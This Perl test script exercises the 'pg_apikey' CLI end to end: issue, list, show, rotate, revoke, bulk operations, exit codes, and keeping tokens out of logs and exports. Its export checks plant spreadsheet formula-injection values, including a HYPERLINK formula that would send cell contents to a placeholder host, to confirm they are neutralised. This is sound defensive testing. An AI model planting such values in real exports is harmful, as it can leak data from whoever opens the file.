# pg_apikey, the command-line tool (doc/cli.md), end to end against a
# throwaway cluster: every command's table and --json output; keys named by
# display prefix and by id; exit codes 1 to 4; the connection options,
# password prompt and .pgpass as psql has them; bulk-issue all or nothing
# (a broken line 57 of 100 keys, a server error in the second chunk of
# 150); bulk-revoke --dry-run changing nothing; an export without a secret;
# and each token printed exactly once, never on stderr nor in the log.
use strict;
use warnings;
use PostgreSQL::Test::Utils;
use Test::More;
use IPC::Run;
use JSON::PP;
use ApikeyTest;

my $node = apikey_node('cli', conf => q{
log_connections = on
log_line_prefix = '%m [%p] %a '
log_statement = none
});
$node->safe_psql('postgres', q{
    CREATE ROLE cli_owner LOGIN;
    CREATE ROLE cli_pw LOGIN PASSWORD 'pw-secret' IN ROLE apikey_admin;
    ALTER ROLE cli_owner SET log_statement = 'all';
    ALTER ROLE cli_pw SET log_statement = 'all';
});

# pg_apikey finds the server through the PG* variables unless told otherwise
$ENV{PGHOST} = $node->host;
$ENV{PGPORT} = $node->port;
$ENV{PGDATABASE} = 'postgres';
delete $ENV{PGAPPNAME};
# every statement pg_apikey sends is logged (and only those: the test's own
# queries handle tokens), to show that no token is ever in one; the other
# roles have log_statement set above
my $log_options = '-c log_statement=all -c log_parameter_max_length=-1';

my $json = JSON::PP->new;
my $tmp = PostgreSQL::Test::Utils::tempdir;
my @tokens;    # every token pg_apikey printed

# runs pg_apikey; returns (exit status, stdout, stderr)
sub cli
{
	my ($stdin, @args) = ref $_[0] eq 'SCALAR' ? (${ shift() }, @_) : ('', @_);
	my ($out, $err) = ('', '');
	local $ENV{PGOPTIONS} = (grep { $_ eq '-U' } @args) ? '' : $log_options;
	IPC::Run::run([ 'pg_apikey', @args ], '<', \$stdin, '>', \$out, '2>', \$err);
	return ($? >> 8, $out, $err);
}

sub sql { return $node->safe_psql('postgres', shift) }

sub occurrences
{
	my ($haystack, $needle) = @_;
	my $n = () = $haystack =~ /\Q$needle\E/g;
	return $n;
}

sub write_file
{
	my ($name, $text) = @_;
	my $path = "$tmp/$name";
	open my $fh, '>', $path or die "$path: $!";
	print $fh $text;
	close $fh;
	return $path;
}

my $warning = 'pg_apikey: this token will not be shown again; store it now';
my $token_re = qr/\b(ak_[a-z0-9_]+_[0-9A-Za-z]{38})\b/;

# ---- --version, --help ----
my ($rc, $out, $err) = cli('--version');
my $version = sql(q{SELECT default_version FROM pg_available_extensions WHERE name = 'apikey'});
is($rc, 0, '--version exits 0');
is($out, "pg_apikey (apikey) $version\n", '--version prints the version of the extension');
($rc, $out) = cli('--help');
ok($rc == 0 && $out =~ /bulk-revoke/ && $out =~ /--dbname/, '--help lists the commands and the connection options');
for my $command (qw(issue list show revoke rotate update usage export bulk-issue bulk-revoke))
{
	($rc, $out) = cli($command, '--help');
	ok($rc == 0 && $out =~ /^Usage:\n  pg_apikey .*\b\Q$command\E\b/, "$command --help");
}

# ---- issue: the token once on stdout, a warning on stderr ----
($rc, $out, $err) = cli('issue', '--owner', 'acme', '--name', 'web', '--scope', 'orders:read',
	'--scope', 'orders:*', '--expires', '30d', '--allow-ip', '203.0.113.0/24',
	'--allow-ip', '2001:db8::/32', '--rate-limit', 'minute=100/1m:20', '--rate-limit', 'hour=1000/1h',
	'--metadata', '{"team": "shop"}', '--org', 'acme-org');
is($rc, 0, 'issue exits 0');
my @found = $out =~ /$token_re/g;
is(scalar(@found), 1, 'issue prints one token');
my $web_token = $found[0];
push @tokens, $web_token;
is(occurrences($out, $web_token), 1, 'the token appears exactly once on stdout');
is(occurrences($err, $web_token), 0, 'and not on stderr');
is($err, "$warning\n", 'stderr has the one-line warning, nothing else');
like($out, qr/^\s*key_id\s*\|\s*display_prefix\s*\|\s*token\s*\n-+\+-+\+-+\n/, 'an aligned table');
my ($web_id, $web_prefix) = $out =~ /^ ([0-9a-f-]{36}) \| (ak_live_[0-9A-Za-z]{8}) \|/m;
ok($web_id && $web_prefix && index($web_token, $web_prefix) == 0, 'with the key id and display prefix');
is(sql(qq{SELECT owner, name, org, scopes, tier, allowed_ips, metadata, rate_limits,
                 expires_at BETWEEN now() + '30 days' - '1 minute'::interval AND now() + '30 days'
            FROM apikey.key_list WHERE id = '$web_id'}),
	'acme|web|acme-org|{orders:read,orders:*}|free|{203.0.113.0/24,2001:db8::/32}|{"team": "shop"}|'
	  . '[{"name": "minute", "burst": 20, "limit": 100, "period": 60}, {"name": "hour", "limit": 1000, "period": 3600}]|t',
	'every option of issue reached the key');
is(sql(qq{SELECT (apikey.verify(k.token, 'orders:read', '203.0.113.9')).code
            FROM (SELECT '$web_token' AS token) k}), 'VALID', 'the printed token verifies');

($rc, $out, $err) = cli('--json', 'issue', '--owner', 'acme', '--name', 'ci');
is($rc, 0, 'issue --json exits 0');
my $ci = eval { $json->decode($out) };
ok($ci && ref $ci eq 'HASH', 'issue --json prints one JSON object');
like($ci->{token} // '', qr/^$token_re$/, 'with the token');
is(occurrences($out, $ci->{token}), 1, 'the token appears exactly once');
is($err, "$warning\n", 'and the warning on stderr');
is(sql(qq{SELECT prefix, name FROM apikey.key_list WHERE id = '$ci->{key_id}'}),
	"$ci->{display_prefix}|ci", 'key_id and display_prefix name the key');
push @tokens, $ci->{token};

# a non-admin owner issues for themself, through -U
($rc, $out, $err) = cli('-U', 'cli_owner', 'issue', '--owner', 'cli_owner', '--json');
is($rc, 0, 'an owner issues their own key');
my $own = $json->decode($out);
push @tokens, $own->{token};

# ---- list ----
($rc, $out) = cli('list');
ok($rc == 0 && $out =~ /^\s*prefix\s*\|\s*name\s*\|\s*owner\s*\|\s*status/ && $out =~ /\Q$web_prefix\E/
	  && $out =~ /^\(3 rows\)$/m, 'list: a table of the keys');
($rc, $out) = cli('list', '--json', '--owner', 'acme');
my $list = $json->decode($out);
is_deeply([ map { $_->{prefix} } @$list ], [ $web_prefix, $ci->{display_prefix} ],
	'list --json --owner: an array of that owner\'s keys, oldest first');
is_deeply($list->[0]{scopes}, [ 'orders:read', 'orders:*' ], 'with typed JSON values');
ok(!grep({ exists $_->{key_hash} || exists $_->{token} } @$list), 'and no secret');
($rc, $out) = cli('-U', 'cli_owner', 'list', '--json');
is_deeply([ map { $_->{owner} } @{ $json->decode($out) } ], ['cli_owner'], 'an owner lists their own keys only');

# ---- show, by display prefix and by id ----
($rc, $out, $err) = cli('show', $web_prefix);
ok($rc == 0 && $out =~ /^ key_id\s+\| \Q$web_id\E$/m && $out =~ /^ masked_token\s+\| \Q$web_prefix\E\*+$/m,
	'show PREFIX: field and value');
unlike($out, qr/$token_re/, 'show prints no token');
($rc, $out) = cli('show', $web_id, '--json');
my $shown = $json->decode($out);
ok($rc == 0 && $shown->{display_prefix} eq $web_prefix && $shown->{status} eq 'active'
	  && ref $shown->{live_limits} eq 'ARRAY', 'show ID --json: the introspection object');
ok(!exists $shown->{key_hash} && !exists $shown->{token}, 'without the hash or the token');
($rc, $out, $err) = cli('-U', 'cli_owner', 'show', $own->{display_prefix});
ok($rc == 3 && $err =~ /^pg_apikey: ERROR:  permission denied/ && $err =~ /^SQLSTATE: 42501$/m,
	'show needs apikey_admin: exit 3 with the SQLSTATE');

# ---- update ----
($rc, $out) = cli('update', $web_prefix, '--set', 'name=web shop', '--set', 'scopes=orders:read,orders:write',
	'daily_quota=5000');
ok($rc == 0 && $out =~ /web shop/, 'update PREFIX --set ... prints the key');
is(sql(qq{SELECT name, scopes, daily_quota FROM apikey.keys WHERE id = '$web_id'}),
	'web shop|{orders:read,orders:write}|5000', 'the changes are made');
($rc, $out) = cli('update', $ci->{key_id}, '--set', 'expires_at=30d', '--set', 'metadata={"ci": true}', '--json');
my $updated = $json->decode($out);
ok($rc == 0 && $updated->{id} eq $ci->{key_id} && $updated->{metadata}{ci}, 'update ID --json: the new row');
is(sql(qq{SELECT expires_at BETWEEN now() + '30 days' - '1 minute'::interval AND now() + '30 days'
            FROM apikey.keys WHERE id = '$ci->{key_id}'}), 't', 'a duration counts from now');

# ---- usage ----
sql(qq{INSERT INTO apikey.usage_hours (key_id, hour, requests, allowed, rate_limited, cost_units)
       VALUES ('$web_id', date_trunc('hour', now()), 10, 8, 2, 8),
              ('$web_id', date_trunc('hour', now()) - interval '3 days', 5, 5, 0, 5),
              ('$web_id', date_trunc('hour', now()) - interval '40 days', 7, 7, 0, 7)});
($rc, $out) = cli('usage', $web_prefix);
ok($rc == 0 && $out =~ /^\s*day\s*\|\s*requests\s*\|/ && $out =~ /^\(2 rows\)$/m,
	'usage PREFIX: a table of the last 30 days');
($rc, $out) = cli('usage', $web_id, '--json', '--days', '60');
my $usage = $json->decode($out);
is_deeply([ map { $_->{requests} } @$usage ], [ 7, 5, 10 ], 'usage ID --json --days 60: every day, oldest first');
($rc, $out) = cli('usage', $web_id, '--json', '--days', '1');
$usage = $json->decode($out);
ok(@$usage == 1 && $usage->[0]{requests} == 10 && $usage->[0]{rate_limited} == 2, '--days 1: today');

# ---- rotate, by id and by display prefix ----
($rc, $out, $err) = cli('rotate', $ci->{key_id}, '--grace', '7d', '--json');
my $rotated = $json->decode($out);
ok($rc == 0 && $rotated->{token} =~ /^$token_re$/ && $rotated->{key_id} ne $ci->{key_id}, 'rotate ID --json: a new key');
is(occurrences($out, $rotated->{token}), 1, 'its token appears exactly once');
is($err, "$warning\n", 'with the warning');
push @tokens, $rotated->{token};
is(sql(qq{SELECT status, expires_at BETWEEN now() + '7 days' - '1 minute'::interval AND now() + '7 days'
            FROM apikey.key_list WHERE id = '$ci->{key_id}'}), 'rotating|t',
	'the old key works for the 7 day grace');
($rc, $out, $err) = cli('rotate', $rotated->{display_prefix}, '--grace', '0');
@found = $out =~ /$token_re/g;
ok($rc == 0 && @found == 1, 'rotate PREFIX --grace 0: one token, in a table');
push @tokens, @found;
is(sql(qq{SELECT status FROM apikey.key_list WHERE id = '$rotated->{key_id}'}), 'revoked',
	'--grace 0 retires the old key at once');

# ---- revoke, by display prefix and by id ----
my ($victim) = $json->decode((cli('issue', '--owner', 'acme', '--name', 'victim', '--json'))[1]);
push @tokens, $victim->{token};
($rc, $out) = cli('revoke', $victim->{display_prefix}, '--reason', 'leaked');
ok($rc == 0 && $out =~ /\| t$/m, 'revoke PREFIX');
is(sql(qq{SELECT status, revoke_reason FROM apikey.key_list WHERE id = '$victim->{key_id}'}),
	'revoked|leaked', 'the key is revoked with its reason');
($rc, $out, $err) = cli('revoke', $victim->{key_id}, '--json');
is_deeply($json->decode($out), { key_id => $victim->{key_id}, display_prefix => $victim->{display_prefix}, revoked => JSON::PP::false },
	'revoke ID --json: already revoked');
like($err, qr/already revoked/, 'said on stderr');

# ---- exit codes ----
my $keys_before = sql('SELECT count(*) FROM apikey.keys');
my @usage_errors = (
	[ [ 'issue', '--owner', 'x', '--frob' ],                     qr/unrecognized option "--frob"/, 'an unknown flag' ],
	[ [ 'issue', '--owner', 'x', '--frob=whatever' ],            qr/unrecognized option "--frob" for command "issue"\n/, 'an unknown flag, not its value' ],
	[ [ 'frob' ],                                                qr/unknown command "frob"/, 'an unknown command' ],
	[ [ 'issue', '--name', 'x' ],                                qr/--owner is required/, 'a missing option' ],
	[ [ 'rotate', $web_prefix, '--grace', '7x' ],                qr/invalid --grace "7x"/, 'a bad duration' ],
	[ [ 'issue', '--owner', 'x', '--expires', 'soon' ],          qr/invalid --expires "soon"/, 'a bad expiry' ],
	[ [ 'issue', '--owner', 'x', '--allow-ip', '10.0.0.1/8' ],   qr/invalid CIDR "10.0.0.1\/8".*bits set/, 'a CIDR with host bits' ],
	[ [ 'issue', '--owner', 'x', '--allow-ip', '300.1.2.3' ],    qr/invalid CIDR "300.1.2.3"/, 'a bad address' ],
	[ [ 'issue', '--owner', 'x', '--rate-limit', 'm=ten/1m' ],   qr/invalid --rate-limit/, 'a bad rate limit' ],
	[ [ 'list', '--status', 'gone' ],                            qr/invalid --status "gone"/, 'a bad status' ],
	[ [ 'revoke' ],                                              qr/needs a KEY/, 'a missing KEY' ],
	[ [ 'revoke', 'not a key' ],                                 qr/expected a key id/, 'a KEY that is neither id nor prefix' ],
	[ [ 'update', $web_prefix, '--set', 'colour=red' ],          qr/unknown field "colour"/, 'an unknown field' ],
	[ [ 'usage', $web_prefix, '--days', '0' ],                   qr/invalid --days/, 'a bad --days' ],
	[ [ 'export', '--format', 'xml' ],                           qr/invalid --format "xml"/, 'a bad format' ]);
for my $case (@usage_errors)
{
	my ($args, $re, $what) = @$case;
	($rc, $out, $err) = cli(@$args);
	ok($rc == 1 && $err =~ $re && $err =~ /Try "pg_apikey.*--help"/ && $out eq '', "exit 1: $what");
}
($rc, $out, $err) = cli('issue', '--owner', 'x', '--frob=whatever');
unlike($err, qr/whatever/, 'an unknown option\'s value is not echoed');
($rc, $out, $err) = cli('revoke', $web_token);
ok($rc == 1 && $err =~ /whole token/ && occurrences($err, $web_token) == 0,
	'exit 1: a whole token as KEY, not echoed');
($rc, $out, $err) = cli('-d', "host=$ENV{PGHOST} port=1", 'list');
ok($rc == 2 && $err =~ /^pg_apikey: error: connection to server/, 'exit 2: cannot connect');
($rc, $out, $err) = cli('-d', 'nosuchdb', 'list');
ok($rc == 2 && $err =~ /database "nosuchdb" does not exist/, 'exit 2: no such database');
($rc, $out, $err) = cli('issue', '--owner', 'x', '--tier', 'gold');
ok($rc == 3 && $err =~ /^pg_apikey: ERROR:  unknown tier "gold"$/m && $err =~ /^SQLSTATE: 22023$/m,
	'exit 3: a server error, with its SQLSTATE');
($rc, $out, $err) = cli('-U', 'cli_owner', 'issue', '--owner', 'acme');
ok($rc == 3 && $err =~ /^SQLSTATE: 42501$/m, 'exit 3: an owner issuing for another');
($rc, $out, $err) = cli('revoke', 'ak_live_ZZZZZZZZ');
ok($rc == 4 && $err =~ /no API key with display prefix "ak_live_ZZZZZZZZ"/, 'exit 4: an unknown prefix');
($rc, $out, $err) = cli('rotate', '00000000-0000-0000-0000-000000000001');
ok($rc == 4 && $err =~ /no API key with id/, 'exit 4: an unknown id');
($rc) = cli('show', 'ak_live_ZZZZZZZZ');
is($rc, 4, 'exit 4: show of an unknown key');
($rc) = cli('-U', 'cli_owner', 'revoke', $web_prefix);
is($rc, 4, 'exit 4: another owner\'s key is not found');
is(sql(q{SELECT status FROM apikey.key_list WHERE name = 'web shop'}), 'active', 'and is untouched');
is(sql('SELECT count(*) FROM apikey.keys'), $keys_before, 'no failed command issued a key');

# ---- connection options, as psql has them ----
my $connstr = $node->connstr('postgres');
($rc, $out) = cli('-d', $connstr, 'list', '--json');
ok($rc == 0 && @{ $json->decode($out) } > 0, '-d with a conninfo string');
{
	local $ENV{PGHOST} = '/nonexistent';
	local $ENV{PGPORT} = '1';
	my $uri = 'postgresql:///postgres?host=' . $node->host . '&port=' . $node->port;
	($rc) = cli('-d', $uri, 'list');
	is($rc, 0, '-d with a URI');
	($rc) = cli('-h', $node->host, '-p', $node->port, '-d', 'postgres', 'list');
	is($rc, 0, '-h, -p and -d');
	($rc) = cli('list');
	is($rc, 2, 'and otherwise the PG* variables');
}

# a role that needs a password: -W prompts, -w never does, .pgpass is read
my $hba = $node->data_dir . '/pg_hba.conf';
my $hba_text = slurp_file($hba);
open my $hfh, '>', $hba or die $!;
print $hfh "local all cli_pw scram-sha-256\n$hba_text";
close $hfh;
$node->reload;
# (setsid: no terminal, so the prompt reads stdin)
my @nottytail = ('setsid', '-w', 'pg_apikey', '-U', 'cli_pw');
{
	local $ENV{PGPASSFILE} = "$tmp/none";
	my ($o, $e) = ('', '');
	IPC::Run::run([ @nottytail, '-w', 'list' ], '<', \'', '>', \$o, '2>', \$e);
	ok(($? >> 8) == 2 && $e =~ /password/, '-w: no prompt, exit 2');
	my $pw = "pw-secret\n";
	IPC::Run::run([ @nottytail, '-W', 'list', '--json' ], '<', \$pw, '>', \$o, '2>', \$e);
	ok(($? >> 8) == 0 && $e =~ /^Password for user cli_pw: /, '-W prompts for the password');
	IPC::Run::run([ @nottytail, 'list', '--json' ], '<', \$pw, '>', \$o, '2>', \$e);
	ok(($? >> 8) == 0 && $e =~ /^Password for user cli_pw: /, 'a prompt when the server asks');
	my $bad = "wrong\n";
	IPC::Run::run([ @nottytail, '-W', 'list' ], '<', \$bad, '>', \$o, '2>', \$e);
	ok(($? >> 8) == 2 && $e =~ /password authentication failed/, 'a wrong password: exit 2');
}
{
	my $pgpass = write_file('pgpass', "*:*:*:cli_pw:pw-secret\n");
	chmod 0600, $pgpass;
	local $ENV{PGPASSFILE} = $pgpass;
	($rc, $out, $err) = cli('-U', 'cli_pw', '-w', 'list', '--json');
	ok($rc == 0 && $err eq '', 'the password file, without a prompt');
}
ok($node->log_contains(qr/connection authorized: user=\S+ database=postgres application_name=pg_apikey/),
	'application_name is pg_apikey');

# ---- bulk-issue: 100 keys from CSV, all or nothing ----
sub csv_keys
{
	my ($n, $broken_line, $broken) = @_;
	my @lines = ('owner,name,scopes,tier,expires_at,allowed_ips,prefix,org');
	for my $i (1 .. $n)
	{
		push @lines, qq{bulk,"key $i, from CSV",orders:read;orders:write,free,30d,10.0.0.0/8;2001:db8::/48,ak_test,org$i};
	}
	$lines[ $broken_line - 1 ] = $broken if $broken_line;
	return join("\n", @lines) . "\n";
}
my $bulk_before = sql('SELECT count(*) FROM apikey.keys');
for my $case (
	[ 'bulk,"key 56,free', qr/:57: a quoted field opened on this line/, 'an unclosed quote' ],
	[ 'bulk,too,few',      qr/:57: expected 8 fields, found 3/,         'a line with too few fields' ],
	[ 'bulk,x,,free,,10.0.0.1/8,,', qr/:57: allowed_ips: invalid CIDR "10.0.0.1\/8"/, 'a bad CIDR' ],
	[ 'bulk,x,,free,1fortnight,,,', qr/:57: expires_at: "1fortnight"/,  'a bad duration' ],
	[ ',x,,free,,,,',      qr/:57: owner is empty/,                     'no owner' ])
{
	my ($line, $re, $what) = @$case;
	my $file = write_file('broken.csv', csv_keys(100, 57, $line));
	($rc, $out, $err) = cli('bulk-issue', $file);
	ok($rc == 1 && $err =~ /broken\.csv$re/ && $err =~ /nothing was sent/ && $out eq '',
		"bulk-issue, line 57 broken ($what): exit 1 naming the line");
}
is(sql('SELECT count(*) FROM apikey.keys'), $bulk_before, 'no key was issued');

# a line only the server can refuse (an unknown tier), in the second chunk of 150
my $file = write_file('tier.csv', csv_keys(150, 121, 'bulk,bad tier,,platinum,,,,'));
($rc, $out, $err) = cli('bulk-issue', $file);
ok($rc == 3 && $err =~ /tier\.csv:121: ERROR:  unknown tier "platinum"/ && $err =~ /^SQLSTATE: 22023$/m,
	'a server error names the file line');
ok($out eq '' && $err !~ $token_re, 'no token is printed');
is(sql('SELECT count(*) FROM apikey.keys'), $bulk_before, 'the first 100 keys were rolled back too');

$file = write_file('keys.csv', csv_keys(100));
($rc, $out, $err) = cli('bulk-issue', $file);
is($rc, 0, 'bulk-issue of 100 keys from CSV');
my @rows = split /\n/, $out;
is(shift(@rows), 'line,key_id,display_prefix,owner,name,token', 'a CSV of the new keys');
is(scalar(@rows), 100, 'one line per key');
my @bulk_tokens = map { /,($token_re)$/ ? $1 : () } @rows;
is(scalar(@bulk_tokens), 100, 'each with its token');
ok(!grep({ occurrences($out, $_) != 1 } @bulk_tokens), 'each token exactly once');
ok($err !~ $token_re && $err =~ /issued 100 keys; these tokens will not be shown again/, 'a warning, no token on stderr');
is_deeply([ map { (split /,/)[0] } @rows ], [ 2 .. 101 ], 'each named by its file line');
is(sql('SELECT count(*) FROM apikey.keys') - $bulk_before, 100, '100 keys issued');
is(sql(q{SELECT count(*) FROM apikey.key_list WHERE owner = 'bulk' AND name = 'key 57, from CSV'
           AND scopes = '{orders:read,orders:write}' AND allowed_ips = '{10.0.0.0/8,2001:db8::/48}'
           AND org = 'org57' AND prefix LIKE 'ak\_test\_%'
           AND expires_at BETWEEN now() + '30 days' - '1 minute'::interval AND now() + '30 days'}),
	1, 'the CSV fields reached the key');
is(sql(qq{SELECT (apikey.verify('$bulk_tokens[56]', 'orders:write', '10.1.1.1')).code}), 'VALID',
	'the tokens verify');
push @tokens, @bulk_tokens;

# JSON lines, from stdin, with --json output
my $jsonl = qq{{"owner": "jsonl", "name": "first", "scopes": ["a:*"], "metadata": {"n": 1}}\n\n}
  . qq{{"owner": "jsonl", "name": "second", "rate_limits": [{"name": "s", "limit": 5, "period": 1}], "expires_at": "2099-01-01T00:00:00Z"}\n};
($rc, $out, $err) = cli(\$jsonl, 'bulk-issue', '-', '--json');
my @issued = map { $json->decode($_) } split /\n/, $out;
ok($rc == 0 && @issued == 2 && $issued[1]{line} == 3 && $issued[1]{name} eq 'second'
	  && $issued[0]{token} =~ /^$token_re$/, 'bulk-issue of JSON lines, --json: one object per key');
push @tokens, map { $_->{token} } @issued;
is(sql(q{SELECT string_agg(name || ':' || scopes::text || ':' || coalesce(rate_limits::text, '-'), ' ' ORDER BY name)
           FROM apikey.keys WHERE owner = 'jsonl'}),
	'first:{a:*}:- second:{}:[{"name": "s", "limit": 5, "period": 1}]', 'the JSON fields reached the keys');
($rc, $out, $err) = cli(\qq{{"owner": "jsonl"}\n{"owner": "jsonl", "colour": "red"}\n}, 'bulk-issue', '-');
ok($rc == 1 && $err =~ /stdin:2: unknown key "colour"/, 'a bad JSON line: exit 1 naming it');

# ---- bulk-revoke: ids and prefixes, --dry-run changes nothing ----
my @victims = map { (split /,/)[1] } @rows[ 0 .. 4 ];            # ids
push @victims, map { (split /,/)[2] } @rows[ 5 .. 9 ];           # display prefixes
my $victims = join("\n", '# ten keys', @victims, '', $victims[0]) . "\n";
my $audit_before = sql('SELECT count(*) FROM apikey.audit_log');
($rc, $out, $err) = cli(\$victims, 'bulk-revoke', '-', '--dry-run', '--json');
my $dry = $json->decode($out);
ok($rc == 0 && @$dry == 10 && !grep({ !$_->{was_active} || $_->{revoked} } @$dry),
	'bulk-revoke --dry-run: ten active keys that would be revoked, each once');
like($err, qr/dry run: 10 of 10 keys would be revoked.*nothing was changed/, 'said on stderr');
is(sql(q{SELECT count(*) FROM apikey.key_list WHERE owner = 'bulk' AND status = 'active'}), 100,
	'--dry-run revokes nothing');
is(sql('SELECT count(*) FROM apikey.audit_log'), $audit_before, '--dry-run writes no audit row');

my $missing = join("\n", @victims[ 0 .. 2 ], 'ak_test_ZZZZZZZZ') . "\n";
($rc, $out, $err) = cli(\$missing, 'bulk-revoke', '-');
ok($rc == 4 && $err =~ /stdin:4: no API key with display prefix "ak_test_ZZZZZZZZ"/ && $err =~ /nothing was revoked/,
	'an unknown key: exit 4 naming its line');
($rc, $out, $err) = cli(\"$victims[0]\nnot-a-key\n", 'bulk-revoke', '-');
ok($rc == 1 && $err =~ /stdin:2: expected a key id/, 'a bad line: exit 1 naming it');
is(sql(q{SELECT count(*) FROM apikey.key_list WHERE owner = 'bulk' AND status = 'active'}), 100,
	'neither revoked anything');

my $revoke_file = write_file('revoke.txt', $victims);
($rc, $out, $err) = cli('bulk-revoke', $revoke_file, '--reason', 'bulk cleanup');
ok($rc == 0 && $out =~ /^\(10 rows\)$/m && $err =~ /revoked 10 keys/, 'bulk-revoke FILE: a table of ten keys');
is(sql(q{SELECT count(*) FROM apikey.key_list WHERE owner = 'bulk' AND status = 'revoked'
           AND revoke_reason = 'bulk cleanup'}), 10, 'ten keys revoked');
is(sql(qq{SELECT count(*) FROM apikey.audit_log WHERE action = 'revoked' AND detail->>'reason' = 'bulk cleanup'}),
	10, 'one audit row each');

# ---- export: everything but a secret ----
($rc, $out, $err) = cli('export');
my @csv = split /\n/, $out;
my @header = split /,/, $csv[0];
ok($rc == 0 && (grep { $_ eq 'prefix' } @header) && (grep { $_ eq 'status' } @header), 'export: CSV with a header');
ok(!grep({ $_ eq 'key_hash' || $_ eq 'token' } @header), 'no key_hash column, no token column');
is(scalar(@csv) - 1, sql('SELECT count(*) FROM apikey.keys'), 'a line per key');
unlike($out, qr/key_hash|\\x[0-9a-f]{64}/, 'no digest');
ok(!grep({ occurrences($out, $_) } @tokens), 'and none of the ' . scalar(@tokens) . ' tokens');
# a spreadsheet runs a cell that starts with = + - @ as a formula
sql(q{SELECT apikey.issue('=HYPERLINK("http://x.invalid/?"&A1)', name => '@SUM(A1:A9)', org => '+1', tier => 'free')});
sql(q{SELECT apikey.issue('-2+3', name => E'\tcmd')});
($rc, $out) = cli('export', '--owner', '=HYPERLINK("http://x.invalid/?"&A1)');
like($out, qr/^[^\n]*,"'=HYPERLINK\(""http:[^\n]*,"?'\+1"?,"?'\@SUM\(A1:A9\)"?,/m,
	'export: owner, org and name that start a formula get a leading \'');
($rc, $out) = cli('export', '--owner', '-2+3');
like($out, qr/,"?'-2\+3"?,,"?'\tcmd"?,/, 'and a leading - or tab too');
unlike($out, qr/(^|,)"?[=+\-\@\t]/m, 'no cell starts a formula');
($rc, $out) = cli('export', '--format', 'json', '--owner', 'jsonl');
my @exported = sort { $a->{name} cmp $b->{name} } map { $json->decode($_) } split /\n/, $out;
ok($rc == 0 && @exported == 2 && $exported[0]{name} eq 'first' && $exported[0]{metadata}{n} == 1,
	'export --format json --owner: JSON lines of that owner\'s keys');
ok(!grep({ exists $_->{key_hash} || exists $_->{token} } @exported), 'without a secret');
($rc, $out) = cli('--json', 'export');
ok(!grep({ occurrences($out, $_) } @tokens) && $out !~ /key_hash/, '--json export: no secret either');

# ---- nothing secret in the server log ----
my $log = slurp_file($node->logfile);
like($log, qr/pg_apikey LOG:  execute <unnamed>: .*apikey\.issue_bulk/, 'the log has pg_apikey\'s statements');
ok(!grep({ occurrences($log, $_) } @tokens), 'and no token');

done_testing();
